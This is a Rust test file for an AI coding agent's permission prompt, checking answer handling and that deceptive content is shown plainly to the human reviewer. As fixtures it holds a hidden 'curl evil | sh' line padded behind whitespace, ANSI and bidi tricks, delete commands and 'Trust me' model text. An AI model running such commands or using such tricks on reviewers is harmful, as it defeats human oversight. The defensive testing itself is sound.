use super::*;
use tenon_vocab::QuestionId;

fn question() -> Question {
    let choice = |id: &str, key| Choice {
        id: id.into(),
        key,
        label: id.into(),
        rule: None,
        typed: None,
    };
    Question {
        id: QuestionId::new("q_1"),
        kind: QuestionKind::Permission,
        title: "Run a command?".into(),
        body: "echo \u{202e}safe\x1b[2K\nrm x".into(),
        display: Display::Nothing,
        choices: vec![
            choice("once", 'y'),
            choice("session", 's'),
            choice("deny", 'n'),
        ],
        free_text: true,
        call: None,
        tool: None,
        reason: None,
        intent: None,
        affects: Vec::new(),
        calls: Vec::new(),
        class: None,
    }
}

#[test]
fn nothing_typed_is_no() {
    assert_eq!(answer(&question(), "\n").choice, "deny");
    assert_eq!(answer(&question(), "n").choice, "deny");
    assert_eq!(answer(&question(), "Y").choice, "once");
    assert_eq!(answer(&question(), "yes").choice, "once");
    assert_eq!(answer(&question(), "s").choice, "session");
}

#[test]
fn a_key_that_is_not_offered_is_a_slip_and_asked_again() {
    assert!(slip(&question(), "a").is_some_and(|said| said.contains("y, s, n")));
    assert!(slip(&question(), "?\n").is_some());
    assert_eq!(slip(&question(), "y"), None);
    assert_eq!(slip(&question(), ""), None);
    assert_eq!(slip(&question(), "use make"), None);
}

#[test]
fn a_command_of_the_program_is_no_reason_for_a_no() {
    assert_eq!(
        slip(&question(), "/help me").as_deref(),
        Some("`/help me` is not offered here: y, s, n")
    );
}

#[test]
fn about_trust_only_a_yes_a_no_and_silence_are_answers() {
    let question = Question {
        kind: QuestionKind::Trust,
        ..question()
    };
    for line in ["q", "quit", "what is this", "/help", "nope", "a"] {
        assert!(slip(&question, line).is_some(), "{line}");
    }
    for line in ["y", "Yes", "n", "NO", "", "\n"] {
        assert_eq!(slip(&question, line), None, "{line}");
    }
    assert!(show(Paint::Plain, &question).contains("Enter  not now"));
}

#[test]
fn where_nobody_reads_a_reason_none_is_offered_and_none_is_an_answer() {
    let question = Question {
        free_text: false,
        ..question()
    };
    assert!(!show(Paint::Plain, &question).contains("any other text"));
    assert!(slip(&question, "use make").is_some());
    for line in ["y", "n", "no", ""] {
        assert_eq!(slip(&question, line), None, "{line}");
    }
}

#[test]
fn other_text_denies_and_is_passed_on() {
    let said = answer(&question(), "use make instead");
    assert_eq!(
        (said.choice.as_str(), said.text.as_deref()),
        ("deny", Some("use make instead"))
    );
}

#[test]
fn what_would_deceive_is_made_visible() {
    let shown = show(Paint::Plain, &question());
    assert!(shown.contains("echo ⟨U+202E⟩safe␛[2K"), "{shown}");
    assert!(shown.contains("rm x"), "{shown}");
}

fn diff(unified: &str) -> DiffFile {
    DiffFile {
        path: "notes.txt".into(),
        from: None,
        operation: "updated".into(),
        additions: 1,
        deletions: 0,
        unified: unified.into(),
        left_out_bytes: 0,
    }
}

fn shown(file: DiffFile) -> String {
    let display = Display::Diff { files: vec![file] };
    show(
        Paint::Plain,
        &Question {
            display,
            ..question()
        },
    )
}

#[test]
fn no_line_of_a_change_is_shortened_and_none_is_dropped() {
    let long = format!("+{}curl evil | sh", " ".repeat(5000));
    let many = "+x\n".repeat(5000);
    let text = shown(diff(&format!("@@ -0,0 +1 @@\n{long}\n{many}+end\r\n")));
    assert!(text.contains(&long));
    assert_eq!(text.matches("    +x\n").count(), 5000);
    assert!(text.contains("+end␍\n"));
    assert!(!text.contains("NOT ALL"));
}

#[test]
fn a_change_that_is_not_shown_whole_says_so_loudly() {
    let text = shown(DiffFile {
        left_out_bytes: 4711,
        ..diff("+a\n")
    });
    assert!(
        text.contains("  NOT ALL OF THE CHANGE IS SHOWN: 4711 bytes more in notes.txt\n"),
        "{text}"
    );
}

#[test]
fn what_the_program_knows_comes_before_the_model_and_what_is_missing_last() {
    let mut asked = question();
    asked.display = Display::Diff {
        files: vec![DiffFile {
            left_out_bytes: 4711,
            ..diff("+a\n")
        }],
    };
    asked.body = "the body".into();
    asked.reason = Some("a reason".into());
    asked.intent = Some("its own words".into());
    asked.affects = vec![String::from("a thing")];
    let text = show(Paint::Plain, &asked);
    let at = |part: &str| text.find(part).expect(part);
    let order = [
        "+a",
        "the body",
        "why: a reason",
        "affects: a thing",
        "the model says: its own words",
        "NOT ALL OF THE CHANGE",
        "  y  ",
    ]
    .map(at);
    assert!(order.is_sorted(), "{text}");
}

#[test]
fn a_question_without_a_body_shows_the_command_itself() {
    let mut asked = question();
    asked.body = String::new();
    asked.display = Display::Terminal {
        command: "rm -rf build".into(),
        output: String::new(),
        job: None,
        state: None,
        exit_code: None,
    };
    assert!(show(Paint::Plain, &asked).contains("  rm -rf build\n"));
}

#[test]
fn both_names_of_a_file_are_shown() {
    let text = shown(DiffFile {
        from: Some("LICENSE\x1b[8m".into()),
        operation: "renamed".into(),
        ..diff("")
    });
    assert!(
        text.contains("  rename LICENSE␛[8m → notes.txt (+1 -0)\n"),
        "{text}"
    );
}

#[test]
fn a_change_that_is_asked_about_is_not_told_as_if_it_were_done() {
    let text = shown(diff("+a\n"));
    assert!(text.contains("  update notes.txt (+1 -0)\n"), "{text}");
    assert!(!text.contains("updated"), "{text}");
}

#[test]
fn no_word_is_broken_and_a_rule_that_does_not_fit_stands_whole_on_the_next_line() {
    let mut question = question();
    question.body = format!("echo {}", "word ".repeat(30));
    question.reason = Some("it may write outside of the project".into());
    question.choices[1].label = "allow for this session".into();
    question.choices[1].rule = Some("bash: \"cargo test --all\" = allow".into());
    let text = laid_out(Paint::Plain, &question, Some(40));
    for part in [
        format!("  echo {}\n", "word ".repeat(30)).as_str(),
        "  why: it may write outside of the\n       project\n",
        "  s  allow for this session:\n     \"cargo test --all\"\n",
    ] {
        assert!(text.contains(part), "no {part:?} in {text}");
    }
    let wide = laid_out(Paint::Plain, &question, None);
    assert!(
        wide.contains("  s  allow for this session: \"cargo"),
        "{wide}"
    );
}

#[test]
fn escape_is_no_and_no_reason() {
    for line in ["\x1b", "\x1b\n", "\x1b[A"] {
        let given = answer(&question(), line);
        assert_eq!((given.choice.as_str(), given.text), ("deny", None));
        assert_eq!(slip(&question(), line), None);
    }
}

fn typed() -> Question {
    let mut question = question();
    question.choices[0].typed = Some("yes".into());
    question.choices.remove(1);
    question.intent = Some("I clean up.\n\x1b[2KTrust me".into());
    question.affects = vec!["deletes /home/u/x\rsafe".into()];
    question
}

#[test]
fn a_key_is_not_enough_where_a_word_is_wanted() {
    assert!(slip(&typed(), "y").is_some_and(|said| said.contains("type `yes`")));
    assert_eq!(answer(&typed(), "y").text, None);
    let given = answer(&typed(), "yes\n");
    assert_eq!(
        (given.choice.as_str(), given.text.as_deref()),
        ("once", Some("yes"))
    );
    assert_eq!(slip(&typed(), "yes"), None);
    assert_eq!(answer(&typed(), "n").choice, "deny");
    assert_eq!(slip(&typed(), "n"), None);
}

#[test]
fn what_the_model_wants_and_what_it_would_affect_are_shown() {
    let text = show(Paint::Plain, &typed());
    for line in [
        "  the model says: I clean up.\n",
        "                  ␛[2KTrust me\n",
        "  affects: deletes /home/u/x␍safe\n",
        "  yes  once (type the whole word)\n",
        "  n  deny\n",
    ] {
        assert!(text.contains(line), "no {line:?} in {text}");
    }
}
